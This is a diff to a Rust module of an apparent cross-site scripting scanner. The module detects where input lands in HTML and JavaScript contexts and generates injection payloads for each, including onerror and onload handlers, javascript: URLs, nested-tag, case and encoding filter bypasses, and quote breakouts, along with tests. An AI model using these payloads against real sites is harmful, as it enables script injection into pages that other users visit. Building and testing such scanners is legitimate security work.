@@ -27,6 +27,8 @@ pub(super) enum Js {
     String(char),
     LineComment,
     BlockComment,
+    /// In a regular expression.
+    Expression,
 }
 
 /// The most places of one word that are looked at.
@@ -39,10 +41,15 @@ const RAW: &[&str] =
 pub(super) fn spots(html: &str, word: &str) -> Vec<Spot> {
     let mut found = Vec::new();
     let mut rest = html;
+    // What is in a template is on no page until a script puts it there.
+    let mut inert = false;
+    let named = |inert: bool| Spot::Text(inert.then(|| "template".to_owned()));
     while let Some((text, after)) = rest.split_once('<') {
         if text.contains(word) {
-            add(&mut found, Spot::Text(None));
+            add(&mut found, named(inert));
         }
+        let tag = |name: &str| after.get(..name.len()).is_some_and(|own| own.eq_ignore_ascii_case(name));
+        inert = (inert || tag("template")) && !tag("/template");
         rest = if let Some(comment) = after.strip_prefix("!--") {
             let (inside, behind) = comment.split_once("-->").unwrap_or((comment, ""));
             if inside.contains(word) {
@@ -62,7 +69,7 @@ pub(super) fn spots(html: &str, word: &str) -> Vec<Spot> {
         };
     }
     if rest.contains(word) {
-        add(&mut found, Spot::Text(None));
+        add(&mut found, named(inert));
     }
     found
 }
@@ -80,6 +87,7 @@ fn element<'a>(tag: &'a str, word: &str, found: &mut Vec<Spot>) -> &'a str {
     if name.contains(word) {
         add(found, Spot::Tag);
     }
+    let mut is_code = true;
     loop {
         rest = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '/');
         if rest.is_empty() {
@@ -107,6 +115,13 @@ fn element<'a>(tag: &'a str, word: &str, found: &mut Vec<Spot>) -> &'a str {
                 value.split_at_checked(end).unwrap_or((value, ""))
             }
         };
+        if attribute.eq_ignore_ascii_case("type") {
+            let kind = inside.trim().to_ascii_lowercase();
+            is_code = kind.is_empty()
+                || kind == "module"
+                || kind.ends_with("javascript")
+                || kind.ends_with("ecmascript");
+        }
         if let Some((before, _)) = inside.split_once(word) {
             let name = attribute.to_ascii_lowercase();
             add(found, Spot::Attribute { name, quote, before: before.to_owned() });
@@ -119,7 +134,7 @@ fn element<'a>(tag: &'a str, word: &str, found: &mut Vec<Spot>) -> &'a str {
     }
     let end = close_of(rest, &name);
     let (inside, behind) = rest.split_at_checked(end).unwrap_or((rest, ""));
-    if name == "script" {
+    if name == "script" && is_code {
         script(inside, word).into_iter().for_each(|spot| add(found, Spot::Script(spot)));
     } else if inside.contains(word) {
         add(found, Spot::Text(Some(name)));
@@ -143,6 +158,7 @@ pub(super) fn script(text: &str, word: &str) -> Vec<Js> {
     let mut state = Js::Code;
     let mut skip = false;
     let mut before = ' ';
+    let mut solid = '\0';
     for (at, c) in text.char_indices() {
         if starts.contains(&at) && !found.contains(&state) {
             found.push(state);
@@ -154,9 +170,12 @@ pub(super) fn script(text: &str, word: &str) -> Vec<Js> {
         }
         state = match (state, c) {
             (Js::Code, '"' | '\'' | '`') => Js::String(c),
-            (Js::Code, '/') if before == '/' => Js::LineComment,
-            (Js::Code, '*') if before == '/' => Js::BlockComment,
-            (Js::String(_), '\\') => {
+            // Where a value may begin, `/` begins an expression; with another behind it, a comment.
+            (Js::Code | Js::Expression, '/') if before == '/' => Js::LineComment,
+            (Js::Code | Js::Expression, '*') if before == '/' => Js::BlockComment,
+            (Js::Code, '/') if "=(,:;![{}?&|\u{0}".contains(solid) => Js::Expression,
+            (Js::Expression, '/' | '\n') => Js::Code,
+            (Js::String(_) | Js::Expression, '\\') => {
                 skip = true;
                 state
             }
@@ -167,6 +186,9 @@ pub(super) fn script(text: &str, word: &str) -> Vec<Js> {
             _ => state,
         };
         before = c;
+        if !c.is_whitespace() {
+            solid = c;
+        }
     }
     found
 }
@@ -191,48 +213,141 @@ fn is_url(attribute: &str) -> bool {
     matches!(attribute, "href" | "src" | "action" | "formaction" | "data" | "xlink:href" | "poster")
 }
 
-/// What might run at a spot, the likeliest first. `call` is the script.
-pub(super) fn payloads(spot: &Spot, call: &str, quoted: &str) -> Vec<String> {
-    let behind =
-        |closing: &str| tags(call, quoted).into_iter().map(|tag| format!("{closing}{tag}")).collect();
+/// Something that might run, and what of it must stand on the page for that.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) struct Payload {
+    pub(super) text: String,
+    pub(super) run: String,
+}
+
+/// A script in the forms that filters and places ask for.
+pub(super) struct Code {
+    /// `f(1)`.
+    call: String,
+    /// Without parentheses.
+    quoted: String,
+    /// Without a letter, as attributes read it.
+    entities: String,
+}
+
+impl Code {
+    pub(super) fn new(call: &str, quoted: &str) -> Self {
+        let entities = call.chars().map(|letter| format!("&#{};", u32::from(letter))).collect();
+        Self { call: call.to_owned(), quoted: quoted.to_owned(), entities }
+    }
+
+    fn of(&self, text: String) -> Payload {
+        let forms = [&self.quoted, &self.entities, &self.call];
+        let run = forms.into_iter().find(|form| text.contains(*form)).unwrap_or(&self.call);
+        Payload { run: run.clone(), text }
+    }
+}
+
+/// What came back of signs that were sent between two words.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) struct Signs {
+    pub(super) angle: bool,
+    pub(super) double: bool,
+    pub(super) single: bool,
+}
+
+impl Signs {
+    /// What is sent between the words.
+    pub(super) const SENT: &'static str = ">\"'<<";
+    pub(super) const ALL: Self = Self { angle: true, double: true, single: true };
+
+    /// Reads an answer; nothing where the words are not there.
+    pub(super) fn read(page: &str, first: &str, last: &str) -> Option<Self> {
+        let (_, rest) = page.split_once(first)?;
+        // What ends the value may end the page for a parser, not for this.
+        let (between, _) = rest.split_once(last)?;
+        Some(Self {
+            angle: between.contains('<'),
+            double: between.contains('"'),
+            single: between.contains('\''),
+        })
+    }
+
+    const fn quote(self, quote: char) -> bool {
+        match quote {
+            '"' => self.double,
+            '\'' => self.single,
+            _ => true,
+        }
+    }
+}
+
+/// What might run at a spot, the likeliest first. Where the signs that it needs do not come through, only what brings them
+/// along in another form.
+pub(super) fn payloads(spot: &Spot, code: &Code, signs: Signs) -> Vec<Payload> {
+    let call = code.call.as_str();
+    let mut all: Vec<String> = Vec::new();
+    let closed = |closing: &str| -> Vec<String> {
+        if signs.angle {
+            let all = tags(code).into_iter().map(|tag| format!("{closing}{tag}"));
+            // The first of each sign is for a filter that takes one.
+            return all.chain([format!("<x>{closing}<img src=x onerror={call}>")]).collect();
+        }
+        let plain = format!("{closing}<img src=x onerror={call}>");
+        let twice =
+            percent_encoding::utf8_percent_encode(&plain, percent_encoding::NON_ALPHANUMERIC).to_string();
+        let entities = plain.replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;");
+        vec![twice, entities]
+    };
     match spot {
-        Spot::Text(None) => behind(""),
-        Spot::Text(Some(element)) => behind(&format!("</{element}>")),
-        Spot::Comment => behind("-->"),
+        Spot::Text(None) => all.extend(closed("")),
+        Spot::Text(Some(element)) => all.extend(closed(&format!("</{element}>"))),
+        Spot::Comment => all.extend(closed("-->")),
         Spot::Tag => {
-            let mut all = vec![format!("x src=x onerror={call} onfocus={call} autofocus tabindex=1 ")];
-            all.extend::<Vec<String>>(behind(">"));
-            all
+            all.push(format!("x src=x onerror={call} onfocus={call} autofocus tabindex=1 "));
+            all.push(format!("svg/onload={call}"));
+            all.extend(closed(">"));
         }
         Spot::Attribute { name, quote, before } => {
-            let mut all = Vec::new();
             if is_url(name) && before.trim().is_empty() {
                 all.push(format!("javascript:{call}"));
                 all.push(format!("JaVa\tScRiPt:{call}"));
                 all.push(format!("data:text/javascript,{call}"));
+                all.push(format!("javajavascript:script:{call}"));
+                all.push(format!("javascript:{}", code.quoted));
             }
-            if name.starts_with("on") {
+            if name.len() > 2 && name.starts_with("on") {
                 all.extend(codes(call, script(&format!("{before}\u{1}"), "\u{1}").first().copied()));
                 all.push(format!("&#39;-{call}-&#39;"));
             }
             if name == "srcdoc" {
-                all.extend(tags(call, quoted));
+                all.push(format!("&lt;img src=x onerror={call}&gt;"));
+                all.extend(tags(code));
             }
             let mark = quote.map(String::from).unwrap_or_default();
             let space = if quote.is_some() { "" } else { "x" };
-            all.push(format!("{space}{mark} onfocus={call} autofocus tabindex=1 x={mark}"));
-            all.extend::<Vec<String>>(behind(&format!("{mark}>")));
-            all.push(format!("{space}{mark} onmouseover={quoted} x={mark}"));
-            all
+            if quote.is_none_or(|quote| signs.quote(quote)) {
+                all.push(format!("{space}{mark} onfocus={call} autofocus tabindex=1 x={mark}"));
+                if signs.angle {
+                    all.extend(closed(&format!("{mark}>")));
+                }
+                all.push(format!("{space}{mark} autofocus onfocus={call} x={mark}"));
+                all.push(format!("{space}{mark}autofocus/onfocus={mark}{}", code.entities));
+                all.push(format!("{space}{mark} onmouseover={} x={mark}", code.quoted));
+                all.push(format!("{space}{mark} onpointerenter={call} x={mark}"));
+            } else {
+                all.extend(closed(&format!("{mark}>")));
+            }
         }
         Spot::Script(at) => {
-            let mut all = codes(call, Some(*at));
-            all.extend(
-                ["</script>", "</ScRiPt>"].iter().map(|end| format!("{end}<img src=x onerror={call}>")),
-            );
-            all
+            all.extend(codes(call, Some(*at)));
+            all.extend(codes(&code.quoted, Some(*at)));
+            if signs.angle {
+                all.extend(
+                    ["</script>", "</ScRiPt>"].iter().map(|end| format!("{end}<img src=x onerror={call}>")),
+                );
+                all.push(format!("</script><img src=x onerror={}>", code.entities));
+            }
         }
     }
+    let mut met = std::collections::BTreeSet::new();
+    all.retain(|text| met.insert(text.clone()));
+    all.into_iter().map(|text| code.of(text)).collect()
 }
 
 /// What runs from within a script.
@@ -244,9 +359,11 @@ fn codes(call: &str, at: Option<Js>) -> Vec<String> {
             format!("{quote};{call}//"),
             format!("\\{quote};{call}//"),
             format!("{quote});{call}//"),
+            format!("{quote}}};{call};if(1){{//"),
         ],
+        Some(Js::Expression) => vec![format!("x/;{call}//"), format!("x/-{call}-/x")],
         Some(Js::LineComment) => vec![format!("\n{call}//")],
-        Some(Js::BlockComment) => vec![format!("*/{call}/*")],
+        Some(Js::BlockComment) => vec![format!("*/;{call};/*")],
         Some(Js::Code) | None => {
             vec![call.to_owned(), format!("1;{call}//"), format!(";{call};"), format!("1);{call}//")]
         }
@@ -254,18 +371,20 @@ fn codes(call: &str, at: Option<Js>) -> Vec<String> {
 }
 
 /// Markup that runs between tags; the later ones pass by filters.
-fn tags(call: &str, quoted: &str) -> Vec<String> {
+fn tags(code: &Code) -> Vec<String> {
+    let Code { call, quoted, entities } = code;
     vec![
         format!("<img src=x onerror={call}>"),
         format!("<script>{call}</script>"),
         format!("<svg onload={call}>"),
+        format!("<svg/onload={entities}>"),
         format!("<details open ontoggle={call}>"),
-        format!("<ScRiPt>{call}</ScRiPt >"),
         format!("<svg/onload={quoted}>"),
         format!("<scr<script>ipt>{call}</scr</script>ipt>"),
-        format!("<iframe src=javascript:parent.{call}>"),
+        format!("<svg/oNlOaD={call}//"),
         format!("<b onmouseover={call}>x"),
-        format!("<img/src=x/oNeRrOr={quoted}//"),
+        format!("<ScRiPt>{call}</ScRiPt >"),
+        format!("<iframe src=javascript:parent.{call}>"),
         format!("<a href=javascript:{call}>x</a>"),
     ]
 }
@@ -295,11 +414,16 @@ mod tests {
             ("<aW>", Spot::Tag),
             ("<a W=1>", Spot::Tag),
             ("<!-- <b> W -->", Spot::Comment),
+            ("<template><b>W</b></template>", Spot::Text(Some("template".to_owned()))),
+            ("<template></template>W", Spot::Text(None)),
+            ("<script type='application/json'>'W'</script>", Spot::Text(Some("script".to_owned()))),
             ("<script>var a = 1; W</script>", Spot::Script(Js::Code)),
             ("<script>a('it\\'s W')</script>", Spot::Script(Js::String('\''))),
             ("<script>a // W\nb</script>", Spot::Script(Js::LineComment)),
             ("<script>/* W */</script>", Spot::Script(Js::BlockComment)),
             ("<script>'</p>' + `W`</SCRIPT>", Spot::Script(Js::String('`'))),
+            ("<script>a = /x'W/; b</script>", Spot::Script(Js::Expression)),
+            ("<script>a = 6 / 2 + W / 3</script>", Spot::Script(Js::Code)),
         ] {
             assert_eq!(spots(html, "W"), [spot], "{html}");
         }
@@ -331,6 +455,17 @@ mod tests {
     }
 
     #[test]
+    fn signs_are_read_between_the_words() {
+        let read = |page| Signs::read(page, "A", "B");
+        assert_eq!(
+            read("xA&gt;&quot;'&lt;&lt;By"),
+            Some(Signs { angle: false, double: false, single: true })
+        );
+        assert_eq!(read("xA>\"'&lt;<By"), Some(Signs::ALL));
+        assert_eq!(read("nothing"), None);
+    }
+
+    #[test]
     fn every_spot_has_something_that_would_run() {
         let pages = [
             "<p>W</p>",
@@ -348,11 +483,13 @@ mod tests {
             "<script>a=`W`</script>",
             "<script>// W\n</script>",
             "<script>/* W */</script>",
+            "<script>a=/W/</script>",
         ];
         for page in pages {
             let spot = spots(page, "W").remove(0);
-            let runs = payloads(&spot, "f(1)", "f`1`");
-            assert!(runs.iter().any(|payload| is_live(&page.replace('W', payload), "f(1)")), "{page}");
+            let runs = payloads(&spot, &Code::new("f(1)", "f`1`"), Signs::ALL);
+            let live = |one: &Payload| is_live(&page.replace('W', &one.text), &one.run);
+            assert!(runs.iter().any(live), "{page}");
         }
     }
 
